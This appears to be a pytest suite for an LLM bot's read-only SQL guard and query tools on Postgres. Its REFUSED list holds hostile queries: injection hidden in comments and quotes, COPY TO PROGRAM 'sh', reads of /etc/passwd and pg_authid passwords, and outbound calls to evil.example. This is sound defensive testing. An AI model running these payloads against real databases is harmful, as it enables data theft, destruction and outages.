"""The SQL tools against a real Postgres: as the reader of the sample data and, to be sure, as a superuser."""

import asyncio
import os
import signal
import time
from collections.abc import AsyncIterator
from contextlib import suppress
from decimal import Decimal

import asyncpg
import pytest
import pytest_asyncio
from hypothesis import given
from hypothesis import strategies as st
from langchain_core.tools import BaseTool

from bot.embedded.postgres import installed_builds
from bot.tools import Limits, ToolFailure, open_pool, role_report, toolset
from bot.tools.sql import Pool, fetch
from bot.tools.sql_format import Column, Result, markdown, point_at
from bot.tools.sql_guard import MAX_QUERY_CHARS, check
from tests.waiting import wait_until

SCRATCH = """
CREATE TABLE accounts (id serial PRIMARY KEY, owner text NOT NULL, balance numeric NOT NULL);
INSERT INTO accounts (owner, balance) VALUES ('ann', 10), ('ben', 20);
CREATE SEQUENCE tickets_seq;
CREATE VIEW rich AS SELECT owner FROM accounts WHERE balance > 15;
CREATE FUNCTION pay() RETURNS int LANGUAGE sql VOLATILE AS 'UPDATE accounts SET balance = 0 RETURNING id';
CREATE FUNCTION shout() RETURNS void LANGUAGE sql AS $$ SELECT pg_notify('everybody', 'stolen') $$;
CREATE FUNCTION "Odd; name"() RETURNS int LANGUAGE sql AS 'SELECT 1';
SELECT lo_from_bytea(4242, 'secret');
"""

REFUSED = [
    # writes
    "INSERT INTO accounts VALUES (3, 'eve', 1)",
    "UPDATE accounts SET balance = 0",
    "DELETE FROM accounts",
    "MERGE INTO accounts a USING accounts b ON a.id = b.id WHEN MATCHED THEN DELETE",
    "TRUNCATE accounts",
    "DROP TABLE accounts",
    "ALTER TABLE accounts ADD COLUMN x int",
    "CREATE TABLE loot AS SELECT * FROM accounts",
    "CREATE TEMP TABLE loot (x int)",
    "SELECT * INTO loot FROM accounts",
    "SELECT * INTO TEMP loot FROM accounts",
    "WITH gone AS (DELETE FROM accounts RETURNING *) SELECT * FROM gone",
    "WITH a AS (WITH b AS (UPDATE accounts SET balance = 0 RETURNING *) SELECT * FROM b) SELECT * FROM a",
    "SELECT * FROM accounts WHERE id IN (WITH x AS (INSERT INTO accounts VALUES (9) RETURNING id) TABLE x)",
    "EXPLAIN ANALYZE DELETE FROM accounts",
    "EXPLAIN (ANALYZE true) UPDATE accounts SET balance = 0",
    "EXPLAIN ANALYZE CREATE TABLE loot AS SELECT 1",
    "EXPLAIN ANALYZE WITH gone AS (DELETE FROM accounts RETURNING *) SELECT * FROM gone",
    "EXPLAIN ANALYZE EXECUTE stolen",
    "COMMENT ON TABLE accounts IS 'mine'",
    "REFRESH MATERIALIZED VIEW rich",
    "VACUUM FULL accounts",
    "GRANT ALL ON accounts TO PUBLIC",
    "CREATE ROLE eve SUPERUSER LOGIN",
    "CREATE EXTENSION dblink",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    "SECURITY LABEL ON TABLE accounts IS 'x'",
    "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public",
    # several statements, and what hides them
    "SELECT 1; DELETE FROM accounts",
    "SELECT 1;; DROP TABLE accounts;",
    "SELECT 1 /* ; */; DROP TABLE accounts --",
    "/* SELECT 1 */ DELETE FROM accounts",
    "SELECT $$ ; $$; DELETE FROM accounts",
    "SELECT $a$ $$ $a$; DROP TABLE accounts; SELECT $b$ $b$",
    "SELECT E'\\'; DELETE FROM accounts; --'; TRUNCATE accounts",
    "SELECT 1 -- \n; DELETE FROM accounts",
    "SELECT 1) AS answer; DROP TABLE accounts; --",
    "SELECT 1 \x00; DROP TABLE accounts",
    # leaving the transaction, changing the session
    "COMMIT",
    "COMMIT; DELETE FROM accounts",
    "ROLLBACK AND CHAIN",
    "SAVEPOINT a",
    "SET TRANSACTION READ WRITE",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "SET statement_timeout = 0",
    "SET search_path = evil",
    "RESET ALL",
    "DISCARD ALL",
    "ALTER SYSTEM SET fsync = off",
    "ALTER ROLE bot_reader SUPERUSER",
    "SELECT set_config('transaction_read_only', 'off', true)",
    "SELECT pg_catalog.set_config('statement_timeout', '0', false)",
    "SELECT \"set_config\"('role', 'postgres', false)",
    "SELECT * FROM set_config('search_path', 'evil', false)",
    "SELECT SET_CONFIG('x.y', 'z', false)",
    "SELECT U&\"\\0073et_config\"('x.y', 'z', false)",
    # code and indirection
    "DO $$ BEGIN DELETE FROM accounts; END $$",
    "CALL pay()",
    "PREPARE stolen AS DELETE FROM accounts",
    "EXECUTE stolen",
    "DECLARE c CURSOR WITH HOLD FOR SELECT 1",
    "FETCH ALL FROM c",
    "SELECT query_to_xml('DELETE FROM accounts', true, false, '')",
    "SELECT cursor_to_xml('c', 1, true, false, '')",
    "SELECT table_to_xml('pg_authid', true, false, '')",
    "SELECT database_to_xml_and_xmlschema(true, false, '')",
    "SELECT * FROM ts_stat('SELECT to_tsvector(owner) FROM accounts')",
    "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, pay()::text::tsquery')",
    "SELECT * FROM crosstab('DELETE FROM accounts RETURNING 1, 2, 3') AS t(a int, b int)",
    "SELECT * FROM dblink('dbname=postgres', 'DROP TABLE accounts') AS t(a text)",
    "SELECT dblink_exec('host=localhost', 'DROP TABLE accounts')",
    "SELECT public.dblink_connect('host=evil.example')",
    "SELECT http_get('http://evil.example')",
    "SELECT net.http_post('http://evil.example')",
    "SELECT cron.schedule('* * * * *', 'DROP TABLE accounts')",
    # files, programs, large objects
    "COPY accounts TO PROGRAM 'sh'",
    "COPY (SELECT 1) TO '/tmp/loot'",
    "COPY accounts FROM '/etc/passwd'",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_file('/etc/passwd')::int",
    "SELECT * FROM pg_ls_dir('/')",
    "SELECT * FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 3)) AS f(a, b)",
    "SELECT (pg_stat_file('postgresql.conf')).size",
    "SELECT encode(pg_read_binary_file('PG_VERSION'), 'hex')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(4242, '/tmp/loot')",
    "SELECT lo_unlink(4242)",
    "SELECT lo_get(4242)",
    "SELECT lo_put(4242, 0, 'x')",
    "SELECT pg_catalog.loread(lo_open(4242, 393216), 10)",
    "SELECT data FROM pg_largeobject",
    "LOAD 'evil'",
    "SELECT * FROM pg_hba_file_rules",
    # holding up, disturbing
    "SELECT pg_sleep(60)",
    "SELECT pg_catalog.pg_sleep_for('1 minute')",
    "SELECT 1 WHERE EXISTS (SELECT pg_sleep(60))",
    "SELECT CASE WHEN pg_sleep(60) IS NULL THEN 1 END",
    "SELECT count(*) FILTER (WHERE pg_sleep(60) IS NULL) FROM accounts",
    "SELECT 1 ORDER BY pg_sleep(60)",
    "SELECT 1 LIMIT (SELECT 1 FROM pg_sleep(60))",
    "SELECT sum(1) OVER (ORDER BY pg_sleep(60)) FROM accounts",
    "VALUES (pg_sleep(60))",
    "SELECT f.pg_sleep FROM generate_series(60, 60) AS f",
    "SELECT (f).pg_sleep FROM generate_series(60, 60) AS f",
    "SELECT (SELECT f).pg_sleep FROM generate_series(60, 60) AS f",
    "SELECT g.\"pg_read_file\" FROM (VALUES ('/etc/passwd')) AS v(g), LATERAL unnest(ARRAY[g]) AS g",
    "SELECT pg_advisory_lock(1)",
    "SELECT pg_try_advisory_xact_lock(1)",
    "LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE",
    "SELECT * FROM accounts FOR UPDATE",
    "SELECT * FROM (SELECT * FROM accounts FOR SHARE) AS a",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_replication",
    "SELECT pg_cancel_backend(1)",
    "SELECT pg_reload_conf()",
    "SELECT pg_switch_wal()",
    "SELECT pg_promote()",
    "SELECT pg_stat_reset()",
    "SELECT pg_create_restore_point('x')",
    "SELECT pg_logical_emit_message(false, 'a', 'b')",
    "SELECT pg_create_physical_replication_slot('loot')",
    "SELECT pg_export_snapshot()",
    "SELECT pg_notify('everybody', 'hello')",
    "SELECT nextval('tickets_seq')",
    "SELECT setval('tickets_seq', 1000)",
    "LISTEN everybody",
    "NOTIFY everybody, 'hello'",
    "CHECKPOINT",
    # secrets
    "SELECT rolpassword FROM pg_authid",
    "TABLE pg_catalog.pg_shadow",
    "SELECT query FROM pg_stat_activity",
    "SELECT * FROM pg_stat_get_activity(NULL)",
    # nothing at all
    "",
    ";",
    "-- just a comment",
    "SELECT $1",
    "SELECT '\ud800'",
    "SELECT " + "1," * MAX_QUERY_CHARS + "1",
]

ENDLESS = "SELECT count(*) FROM generate_series(1, 1e12)"

HARMLESS = [
    ENDLESS,
    "SELECT " + "f(" * 3_000 + "1" + ")" * 3_000,
    "SELECT " + "(" * 4_900 + "1" + ")" * 4_900,
    "SELECT pay()",
    "SELECT (SELECT pay()) FROM accounts",
    "SELECT a.id FROM accounts AS a, LATERAL pay() AS p",
    "EXPLAIN ANALYZE SELECT pay()",
    "SELECT 'DROP TABLE accounts; --'",
    "SELECT $$; DROP TABLE accounts; $$",
    "SELECT '\\'; -- '",
    'SELECT "Odd; name"()',
    'SELECT 1 AS "; DROP TABLE accounts; --"',
    "SELECT 1 -- ) AS answer; DROP TABLE accounts",
    "SELECT 1 /* ) AS answer; DROP TABLE accounts",
    "SELECT 1 /* ) AS answer; */",
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT max(n) FROM r",
    "SELECT repeat('x', 50000000)",
    "SELECT repeat('x', 2000000000)",
    "SELECT repeat('x', 1000000)::int",
    "SELECT array_fill(0, ARRAY[100000000, 100])",
    "SELECT * FROM generate_series(1, 100000) AS a, generate_series(1, 100000) AS b",
    "SELECT '(((((a+)+)+)+)+)+$' ~ repeat('(a+)+', 50)",
    "SELECT 1/0",
    "SELECT '/etc/passwd'::regclass",
    "SELECT 'pg_sleep(60)'::regprocedure",
    "SELECT xmlparse(DOCUMENT '<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>')",
    "SELECT * FROM accounts TABLESAMPLE system (100)",
    "SHOW ALL",
    "TABLE rich",
]


@pytest_asyncio.fixture(scope="session")
async def owner_url(database_url: str) -> AsyncIterator[str]:
    """A database of our own on the embedded server, as its superuser."""
    superuser = database_url.replace("bot_reader@", "postgres@", 1)
    connection = await asyncpg.connect(superuser)
    try:
        await connection.execute("CREATE DATABASE scratch TEMPLATE template0")
        url = superuser.replace("/sample?", "/scratch?", 1)
        scratch = await asyncpg.connect(url)
        await scratch.execute(SCRATCH)
        await scratch.close()
        yield url
        await connection.execute("DROP DATABASE scratch WITH (FORCE)")
    finally:
        await connection.close()


@pytest_asyncio.fixture
async def owner(owner_url: str) -> AsyncIterator["asyncpg.Connection[asyncpg.Record]"]:
    """The superuser's connection to the scratch database."""
    connection = await asyncpg.connect(owner_url)
    yield connection
    await connection.close()


@pytest_asyncio.fixture
async def pool(database_url: str) -> AsyncIterator[Pool]:
    """The bot's pool, one connection wide so that a broken one is noticed."""
    async with open_pool(database_url, size=1) as pool:
        yield pool


@pytest_asyncio.fixture
async def owner_pool(owner_url: str) -> AsyncIterator[Pool]:
    """The same as a superuser of the scratch database: only our own walls are left."""
    async with open_pool(owner_url, size=1) as pool:
        yield pool


@pytest.fixture
def tools(pool: Pool) -> dict[str, BaseTool]:
    """The toolset by name."""
    return {tool.name: tool for tool in toolset(pool, None)}


async def failure(pool: Pool, query: str, limits: Limits | None = None) -> str:
    """The text of the failure that `query` must end in."""
    with pytest.raises(ToolFailure) as caught:
        await fetch(pool, query, limits or Limits())
    return str(caught.value)


async def values(pool: Pool, query: str) -> tuple[object, ...]:
    """The only row of a query."""
    (row,) = (await fetch(pool, query, Limits())).rows
    return row


async def state(owner_url: str) -> str:
    """Everything in the scratch database, as pg_dump writes it."""
    program = next(builds / "pg_dump" for builds in installed_builds() if (builds / "pg_dump").exists())
    process = await asyncio.create_subprocess_exec(
        program, "--dbname", owner_url, "--large-objects", stdout=asyncio.subprocess.PIPE
    )
    output, _ = await process.communicate()
    assert process.returncode == 0
    # a random key, new in each dump
    return "\n".join(line for line in output.decode().splitlines() if "restrict" not in line)


@pytest.mark.parametrize("query", REFUSED, ids=lambda query: query[:60])
def test_guard_refuses(query: str) -> None:
    """Each is refused before the server sees it."""
    with pytest.raises(ToolFailure):
        check(query)


async def test_red_team_changes_nothing_even_as_superuser(
    owner_pool: Pool, owner: "asyncpg.Connection[asyncpg.Record]", owner_url: str
) -> None:
    """All of it, run as a superuser with small limits: nothing changes, nothing hangs, nothing stays."""
    before = await state(owner_url)
    limits = Limits(seconds=0.5)
    for query in REFUSED + HARMLESS:
        began = time.monotonic()
        try:
            text = markdown(await fetch(owner_pool, query, limits))
        except ToolFailure as error:
            text = str(error)
        else:
            assert query in HARMLESS
        assert 0 < len(text) < 2 * limits.chars
        assert time.monotonic() - began < 5, query
    assert await state(owner_url) == before
    assert await owner.fetchval("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory'") == 0
    assert await owner.fetchval("SELECT count(*) FROM pg_replication_slots") == 0
    assert await values(owner_pool, "SELECT current_setting('statement_timeout')") == ("30s",)


async def test_function_called_like_a_column_is_a_real_hole(
    owner: "asyncpg.Connection[asyncpg.Record]",
) -> None:
    """Why the guard looks at column names: PostgreSQL takes `f.pg_typeof` for a call of that function."""
    assert await owner.fetchval("SELECT f.pg_typeof FROM generate_series(1, 1) AS f") == "integer"


async def test_writing_function_meets_the_read_only_transaction(owner_pool: Pool) -> None:
    """A function of the database passes the guard, but cannot write."""
    assert "Only reading is possible" in await failure(owner_pool, "SELECT pay()")


async def test_transaction_is_rolled_back(
    owner_pool: Pool, owner: "asyncpg.Connection[asyncpg.Record]"
) -> None:
    """A read-only transaction may notify, but only a committed one is heard."""
    heard: list[object] = []
    await owner.add_listener("everybody", lambda *notification: heard.append(notification[-1]))
    await values(owner_pool, "SELECT shout()")
    await owner.execute("NOTIFY everybody, 'end'")
    await wait_until(lambda: "end" in heard, "the later notification is heard")
    assert heard == ["end"]


async def test_backslash_means_the_same_to_guard_and_server(
    owner: "asyncpg.Connection[asyncpg.Record]", owner_url: str
) -> None:
    r"""With standard_conforming_strings off, what the guard reads as a string would be code."""
    await owner.execute("ALTER DATABASE scratch SET standard_conforming_strings = off")
    try:
        async with open_pool(owner_url, size=1) as pool:
            sly = r"SELECT '\', ' || pg_sleep(60)::text --'"
            assert await values(pool, sly) == ("\\", " || pg_sleep(60)::text --")
    finally:
        await owner.execute("ALTER DATABASE scratch RESET standard_conforming_strings")


@pytest.mark.parametrize(
    "query",
    [
        "select 1;",
        "WITH a AS (SELECT 1) SELECT * FROM a",
        "VALUES (1), (2)",
        "TABLE orders",
        "(SELECT 1) UNION (SELECT 2) ORDER BY 1",
        "SHOW server_version",
        "EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM orders",
        "SELECT pg_size_pretty(pg_total_relation_size('orders'))",
        "SELECT o.status FROM orders AS o -- with a comment",
        "SELECT count(*) FILTER (WHERE id OPERATOR(pg_catalog.>) 5) FROM orders TABLESAMPLE bernoulli (50)",
        "SELECT 'é', U&'\\00e9', E'\\n', $$it's$$ ; -- ü",
        "SELECT * FROM orders AS o JOIN customers AS c ON c.id = o.customer_id",
        "SELECT random() < 2, now() IS NULL, gen_random_uuid() IS NULL, version() IS NULL",
    ],
)
async def test_reading_queries_run(pool: Pool, query: str) -> None:
    """What people ask for is not refused."""
    assert (await fetch(pool, query, Limits())).rows


async def test_values_are_typed_and_rendered(pool: Pool) -> None:
    """Numbers stay numbers; dates, intervals, JSON, arrays and bytes are PostgreSQL's own text."""
    result = await fetch(
        pool,
        r"""SELECT 1 AS a, 1.50::numeric AS b, true AS c, NULL AS d, '' AS e, date '2024-02-29' AS f,
        'infinity'::timestamptz AS g, interval '1 mon 2 days 03:00' AS h, '{"k": [1, null]}'::jsonb AS i,
        ARRAY['x', NULL] AS j, '\x00ff'::bytea AS k, 'p|q' AS l, E'two\nlines' AS m, (1, 'y') AS n""",
        Limits(),
    )
    assert result.rows[0][:4] == (1, Decimal("1.50"), True, None)
    assert [column.type for column in result.columns][:3] == ["int4", "numeric", "bool"]
    assert markdown(result).splitlines()[2] == (
        r"| 1 | 1.50 | true | NULL | '' | 2024-02-29 | infinity | 1 mon 2 days 03:00:00 "
        r"""| {"k": [1, null]} | {x,NULL} | \x00ff | p\|q | two lines | (1,y) |"""
    )


async def test_long_value_is_cut_on_the_server(pool: Pool) -> None:
    """A value of 50 MB arrives as a few hundred characters, and the reader is told."""
    result = await fetch(pool, "SELECT repeat('x', 50000000) AS long", Limits())
    assert len(str(result.rows[0][0])) == 501
    assert "cut at 500 characters" in markdown(result)


async def test_columns_of_the_same_name_and_no_columns_are_shown(pool: Pool) -> None:
    """The wrapping of the query survives what SQL allows at its top."""
    assert await values(pool, "SELECT 1 AS a, 2 AS a, 3") == (1, 2, 3)
    assert markdown(await fetch(pool, "SELECT FROM regions LIMIT 2", Limits())) == "2 rows."


async def test_order_of_the_query_is_kept(pool: Pool) -> None:
    """The rows come in the order that the query asks for."""
    result = await fetch(pool, "SELECT id FROM orders ORDER BY id DESC", Limits(rows=50))
    ids = [row[0] for row in result.rows]
    assert ids == sorted(ids, reverse=True)  # type: ignore[type-var]  # the ids are integers
    assert len(ids) == 50


async def test_no_more_rows_are_computed_than_shown(pool: Pool) -> None:
    """Row 102 would divide by zero: of 100 shown, 101 are asked for."""
    result = await fetch(pool, "SELECT 1 / (102 - i) FROM generate_series(1, 1000) AS i", Limits(rows=100))
    assert len(result.rows) == 100
    assert not result.is_complete
    assert "The first 100 rows; there are more." in markdown(result)


async def test_result_is_bounded_in_characters(pool: Pool) -> None:
    """Wide rows end the result early, with at least one shown."""
    result = await fetch(pool, "SELECT repeat('x', 400) FROM generate_series(1, 90)", Limits(chars=4_000))
    assert 0 < len(result.rows) < 12
    assert not result.is_complete


async def test_exactly_as_many_rows_as_allowed_are_complete(pool: Pool) -> None:
    """The last row that fits is not called the first of more."""
    assert (await fetch(pool, "SELECT * FROM generate_series(1, 100)", Limits(rows=100))).is_complete


async def test_error_points_at_the_place_and_names_the_tables(tools: dict[str, BaseTool]) -> None:
    """Wrong SQL comes back with PostgreSQL's message, a caret, its hint, and the tables there are."""
    with pytest.raises(ToolFailure) as caught:
        await tools["sql_query"].ainvoke({"query": "SELECT 'é',\n  statu FROM orders"})
    text = str(caught.value)
    assert text.startswith(
        'ERROR: column "statu" does not exist (SQLSTATE 42703)\nLINE 2:   statu FROM orders\n'
    )
    assert text.splitlines()[2] == " " * len("LINE 2:   ") + "^"
    assert 'HINT: Perhaps you meant to reference the column "orders.status".' in text
    assert "agents, categories, customers" in text


async def test_syntax_error_points_at_the_place(pool: Pool) -> None:
    """Also what the parser refuses before the server sees it."""
    text = await failure(pool, "SELECT * FRM orders")
    assert text == 'ERROR: syntax error at or near "FRM"\nLINE 1: SELECT * FRM orders\n                 ^'


async def test_missing_privilege_is_told(database_url: str) -> None:
    """The role's rights are the last wall."""
    async with open_pool(database_url, size=1) as pool:
        assert "permission denied" in await failure(pool, "SELECT starelid FROM pg_statistic")


async def test_slow_query_is_stopped_and_told(pool: Pool) -> None:
    """The limit is the server's; the connection serves the next query."""
    text = await failure(pool, ENDLESS, Limits(seconds=0.2))
    assert "took longer than 0.2 s and was stopped" in text
    assert await values(pool, "SELECT 1") == (1,)


async def test_locked_table_does_not_hold_us_up(
    owner_pool: Pool, owner: "asyncpg.Connection[asyncpg.Record]"
) -> None:
    """Somebody's exclusive lock ends the query after a tenth of its time."""
    async with owner.transaction():
        await owner.execute("LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE")
        text = await failure(owner_pool, "SELECT * FROM accounts", Limits(seconds=2))
        assert "locked by somebody else" in text


async def running(owner: "asyncpg.Connection[asyncpg.Record]", backend: object) -> bool:
    """Whether the server works on the endless query for the process `backend`."""
    activity = "SELECT state = 'active' AND strpos(query, $2) > 0 FROM pg_stat_activity WHERE pid = $1"
    return bool(await owner.fetchval(activity, backend, ENDLESS))


async def test_cancelling_the_task_cancels_the_query_on_the_server(
    owner_pool: Pool, owner: "asyncpg.Connection[asyncpg.Record]"
) -> None:
    """pg_stat_activity shows it running, then not; the only connection of the pool serves on."""
    (backend,) = await values(owner_pool, "SELECT pg_backend_pid()")
    task = asyncio.create_task(fetch(owner_pool, ENDLESS, Limits()))
    await wait_until(lambda: running(owner, backend), "the query runs on the server")
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert not await running(owner, backend)
    assert await values(owner_pool, "SELECT pg_backend_pid()") == (backend,)


async def test_lost_connection_is_told_and_replaced(
    owner_pool: Pool, owner: "asyncpg.Connection[asyncpg.Record]"
) -> None:
    """A backend that is killed under a query costs that query only."""
    (backend,) = await values(owner_pool, "SELECT pg_backend_pid()")
    task = asyncio.create_task(fetch(owner_pool, ENDLESS, Limits()))
    await wait_until(lambda: running(owner, backend), "the query runs on the server")
    await owner.execute("SELECT pg_terminate_backend($1)", backend)
    with pytest.raises(ToolFailure, match="cannot be reached"):
        await task
    assert await values(owner_pool, "SELECT 1") == (1,)


async def test_frozen_server_is_left(owner_pool: Pool) -> None:
    """A backend that no longer reacts, not even to cancelling, costs seconds; the next query gets another."""
    (backend,) = await values(owner_pool, "SELECT pg_backend_pid()")
    assert isinstance(backend, int)
    os.kill(backend, signal.SIGSTOP)
    try:
        async with asyncio.timeout(5):
            assert "did not answer" in await failure(owner_pool, "SELECT 1", Limits(seconds=0.1))
            assert await values(owner_pool, "SELECT 1") == (1,)
    finally:
        os.kill(backend, signal.SIGCONT)


@pytest.mark.parametrize("dsn", ["postgresql://nobody@127.0.0.1:1/none", "postgresql:///x?host=/nonexistent"])
async def test_unreachable_database_is_told_at_use(dsn: str) -> None:
    """The pool opens all the same, so the bot starts; health says down, the tool says so."""
    async with open_pool(dsn, size=2) as pool:
        assert "cannot be reached" in await failure(pool, "SELECT 1")
        assert (await role_report(pool)).state == "down"


async def test_concurrent_queries_share_a_small_pool(pool: Pool) -> None:
    """Twenty at once wait for the one connection, and all are answered."""
    answers = await asyncio.gather(*(values(pool, f"SELECT {number}") for number in range(20)))
    assert answers == [(number,) for number in range(20)]


async def test_reader_may_only_read(pool: Pool) -> None:
    """Health shows ping, version and that the role can do no harm."""
    health = await role_report(pool)
    assert health.state == "ok"
    assert health.evidence["role"] == "bot_reader"
    assert health.evidence["rights"] == "reads only"
    assert health.evidence["version"].startswith("18")


async def test_privileged_role_is_reported(owner_pool: Pool) -> None:
    """A superuser's rights, and what it may write, stand in health."""
    health = await role_report(owner_pool)
    assert health.state == "degraded"
    assert "is a superuser" in health.evidence["rights"]
    assert "may write accounts" in health.evidence["rights"]


async def test_role_that_may_write_one_column_is_reported(
    owner: "asyncpg.Connection[asyncpg.Record]", owner_url: str
) -> None:
    """An ordinary role with a single right too many is noticed."""
    await owner.execute("CREATE ROLE clerk LOGIN; GRANT UPDATE (balance) ON accounts TO clerk")
    try:
        async with open_pool(owner_url.replace("postgres@", "clerk@", 1), size=1) as pool:
            assert (await role_report(pool)).evidence["rights"] == "may write accounts"
    finally:
        await owner.execute("REVOKE ALL ON accounts FROM clerk; DROP ROLE clerk")


async def test_schema_overview_names_tables_columns_and_keys(tools: dict[str, BaseTool]) -> None:
    """One call tells what a model needs for a join."""
    text = await tools["sql_schema"].ainvoke({})
    assert "customers (table, about " in text
    assert "signed_up_on date" in text
    assert "FOREIGN KEY (customer_id) REFERENCES customers(id)" in text
    assert "One row per order." in text
    assert "pg_class" not in text


async def test_schema_of_a_table_has_comments_and_sample_values(tools: dict[str, BaseTool]) -> None:
    """Low-cardinality columns show their values, others do not."""
    text = await tools["sql_schema"].ainvoke({"table": 'public."Tickets"'})
    assert "- priority text NOT NULL (values such as 'high', 'low', 'normal', 'urgent')" in text
    assert "- satisfaction integer: 1 (bad) to 5 (good)" in text
    customers = await tools["sql_schema"].ainvoke({"table": "customers"})
    assert "@" not in customers


async def test_unknown_table_gets_suggestions(tools: dict[str, BaseTool]) -> None:
    """A near miss is answered with the name that was meant."""
    with pytest.raises(ToolFailure, match="Did you mean customers"):
        await tools["sql_schema"].ainvoke({"table": "custmers"})


async def test_schema_is_cached_until_a_query_shows_a_change(
    owner_pool: Pool, owner: "asyncpg.Connection[asyncpg.Record]"
) -> None:
    """A new table appears after an undefined name, not before; views, odd names and odd values work."""
    schema, query, *_ = toolset(owner_pool, None)
    before = await schema.ainvoke({})
    assert "rich (view)" in before
    await owner.execute("""
        CREATE SCHEMA "Own"; CREATE TYPE mood AS ENUM ('sad', 'glad');
        CREATE TABLE "Own"."My Table" ("Select" mood, plain text);
        COMMENT ON COLUMN "Own"."My Table".plain IS E'with | pipe\nand line';
        INSERT INTO "Own"."My Table" VALUES ('glad', 'it''s | odd')
    """)
    try:
        assert await schema.ainvoke({}) == before
        with pytest.raises(ToolFailure, match="My Table"):
            await query.ainvoke({"query": "SELECT * FROM nowhere"})
        assert '"Own"."My Table" (table)' in await schema.ainvoke({})
        text = await schema.ainvoke({"table": "own.my table"})
        assert "- \"Select\" mood (values such as 'glad')" in text
        assert '- plain text: with | pipe and line (values such as "it\'s | odd")' in text
    finally:
        await owner.execute('DROP SCHEMA "Own" CASCADE; DROP TYPE mood')


async def test_schema_shows_only_what_the_role_may_read(
    owner: "asyncpg.Connection[asyncpg.Record]", owner_url: str
) -> None:
    """A role with two columns of a table sees these two, and no other table."""
    await owner.execute("CREATE ROLE peeper LOGIN; GRANT SELECT (id, owner) ON accounts TO peeper")
    try:
        async with open_pool(owner_url.replace("postgres@", "peeper@", 1), size=1) as pool:
            text = await toolset(pool, None)[0].ainvoke({})
            assert "id integer, owner text\n" in text
            assert "rich" not in text
    finally:
        await owner.execute("REVOKE ALL ON accounts FROM peeper; DROP ROLE peeper")


async def test_schema_of_many_tables_is_bounded(
    owner: "asyncpg.Connection[asyncpg.Record]", owner_pool: Pool
) -> None:
    """Four hundred wide tables do not flood the model."""
    columns = ", ".join(f"some_column_{number} int" for number in range(30))
    tables = "; ".join(
        f"CREATE TABLE many.table_{number}_with_a_long_name ({columns})" for number in range(400)
    )
    await owner.execute(f"CREATE SCHEMA many; {tables}")
    try:
        text = await toolset(owner_pool, None)[0].ainvoke({})
        assert len(text) < 13_000
        assert "accounts (table)" in text
        assert "and more" in text
    finally:
        await owner.execute("DROP SCHEMA many CASCADE")


async def test_tool_names_and_arguments_are_the_contract(tools: dict[str, BaseTool]) -> None:
    """Models, prompts and the offline model rely on them; the thread is nothing that a model can give."""
    assert {name: list(tool.args) for name, tool in tools.items()} == {
        "sql_schema": ["table"],
        "sql_query": ["query"],
        "current_time": ["zone"],
    }


cells = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.decimals(), st.text())


@given(st.lists(st.tuples(cells, cells), max_size=5))
def test_every_value_stays_in_its_cell(rows: list[tuple[object, ...]]) -> None:
    """Pipes, line breaks and control characters in data add no cells, rows or lines to the table."""
    text = markdown(Result((Column("a", "text"), Column("b", "text")), tuple(rows), is_complete=True))
    lines = text.split("\n")
    assert len(lines) == len(rows) + 4
    for line in lines[: len(rows) + 2]:
        assert line.replace("\\|", "").count("|") == 3


@given(st.text(), st.integers(-1, 50))
def test_pointing_never_fails(query: str, index: int) -> None:
    """Whatever the server says of the position, there are no more than two lines."""
    assert point_at(query, index).count("\n") <= 1


@given(st.text())
def test_guard_answers_any_text(query: str) -> None:
    """Either a statement or a failure for the model; no other exception."""
    with suppress(ToolFailure):
        check(query)
